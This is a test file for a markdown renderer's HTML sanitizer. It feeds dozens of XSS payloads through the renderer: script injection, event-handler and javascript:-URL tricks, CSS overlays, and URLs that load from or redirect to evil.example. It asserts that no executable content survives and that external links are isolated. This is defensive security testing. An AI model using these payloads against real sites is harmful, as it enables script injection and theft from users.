import fc from 'fast-check';
import type { Element, Root } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { describe, expect, it } from 'vitest';
import { render } from './render.ts';

const FORBIDDEN = new Set(
  'script iframe object embed form style link meta base button textarea select option template frame frameset svg applet audio video source'.split(
    ' ',
  ),
);
const URLS = ['href', 'src', 'action', 'formAction', 'xLinkHref', 'poster', 'data', 'srcSet', 'background'];

/** Colours of code, and the colour of invalid maths. */
const STYLES =
  /^((background-)?color:var\(--code-[a-z-]+\);?|color:#?\w+;?|(font-style|font-weight|text-decoration):[\w-]+;?|text-align:\w+;?)*$/;

/** Elements and attributes of an article that could run scripts, load or submit data, or cover the page. */
function dangers(parent: Root | Element): string[] {
  return parent.children.flatMap((node) => {
    if (node.type !== 'element') return [];
    const violations: string[] = FORBIDDEN.has(node.tagName) ? [`<${node.tagName}>`] : [];
    for (const [name, value] of Object.entries(node.properties)) {
      // What the page's own scripts act on.
      if (/^on/i.test(name) || /^data(Island|Action|WaitsFor|Waiting)$/.test(name)) violations.push(name);
      const url = String(value).replace(/[\s\p{Cc}]/gu, '');
      if (URLS.includes(name) && /^(javascript|vbscript|data|file|blob):/i.test(url)) violations.push(`${name}=${url}`);
      if (name === 'style' && !STYLES.test(String(value))) violations.push(`style=${value}`);
      if (name === 'id' && !/^(h-|user-content-fn|footnote-label$)/.test(String(value))) violations.push(`id=${value}`);
    }
    return [...violations, ...dangers(node)];
  });
}
const dangersOf = async (markdown: string) => dangers(fromHtml(await render(markdown), { fragment: true }));

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)" />',
  '<img/src/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=a><button>go</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](<javascript:alert(1)>)',
  '[x]: javascript:alert(1)\n\n[x]',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '<javascript:alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="position:fixed;inset:0">over all</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<div data-island="x" data-wakes="now" data-modules="https://evil.example/x.js">{}</div>',
  '<p data-waits-for="/x"><a data-action="theme">x</a><b data-waiting="/x">y</b></p>',
  '<img name="getElementById" id="main">',
  '<details ontoggle=alert(1) open><summary>x</summary></details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--><script>alert(1)</script>-->',
  '`</code><script>alert(1)</script>`',
  '```html"><img src=x onerror=alert(1)>\nx\n```',
  '```js title="\\"><script>alert(1)</script>"\nx\n```',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\includegraphics{https://evil.example/x.png}$',
  '$\\htmlData{x=y}{z}$ $\\style{position:fixed}{x}$',
  '# <img src=x onerror=alert(1)>',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
  '| <img src=x onerror=alert(1)> |\n|-|\n| <script>1</script> |',
  '> [!NOTE]\n> <script>alert(1)</script>',
];

/** URLs of images and links as a browser resolves them on our page. */
function addresses(parent: Root | Element): { name: string; url: URL; rel: unknown; referrer: unknown }[] {
  return parent.children.flatMap((node) => {
    if (node.type !== 'element') return [];
    const { src, href, rel, referrerPolicy: referrer } = node.properties;
    const raw = node.tagName === 'img' ? src : node.tagName === 'a' ? href : undefined;
    const isUrl = typeof raw === 'string' && URL.canParse(raw, PAGE);
    const links = isUrl ? [{ name: node.tagName, url: new URL(raw, PAGE), rel, referrer }] : [];
    return [...links, ...addresses(node)];
  });
}
const PAGE = 'http://localhost:3000/blog/a';

describe('a URL that leads to another site is detected as in a browser', () => {
  const FORMS = [
    ...[
      '/&#9;/evil.example/x',
      '/&#10;/evil.example/x',
      '/&#13;&#92;evil.example/x',
      '//evil.example/x',
      '/\\evil.example/x',
    ],
    ...[
      '\\\\evil.example/x',
      '&#9;//evil.example/x',
      'https:/evil.example/x',
      'https:evil.example/x',
      ' https://evil.example/x',
    ],
    ...['ht&#9;tps://evil.example/x', 'http://evil.example/x', 'https://evil.example/x', '/&NewLine;/evil.example/x'],
  ];

  it.each(FORMS)('%s', async (address) => {
    for (const text of [
      `<img src="${address}" alt="">`,
      `<a href="${address}">x</a>`,
      `![x](<${address}>)`,
      `[x](<${address}>)`,
    ]) {
      for (const { name, url, rel, referrer } of addresses(fromHtml(await render(text), { fragment: true }))) {
        if (url.origin === new URL(PAGE).origin || !/^https?:$/.test(url.protocol)) continue;
        if (name === 'img') expect([url.protocol, referrer], text).toEqual(['https:', 'no-referrer']);
        else expect(rel, text).toEqual(['noopener', 'noreferrer']);
      }
    }
  });
});

describe('an article never contains executable content', () => {
  it.each(ATTACKS)('%s', async (attack) => {
    expect(await dangersOf(attack)).toEqual([]);
  });

  it('for any combination of attacks', async () => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.string({ maxLength: 30 }),
      fc.constantFrom('\n\n', '> ', '- ', '`', '**', '| '),
    );
    const text = fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join(''));
    await fc.assert(
      fc.asyncProperty(text, async (markdown) => {
        expect(await dangersOf(markdown)).toEqual([]);
      }),
      { numRuns: 150 },
    );
  });
});
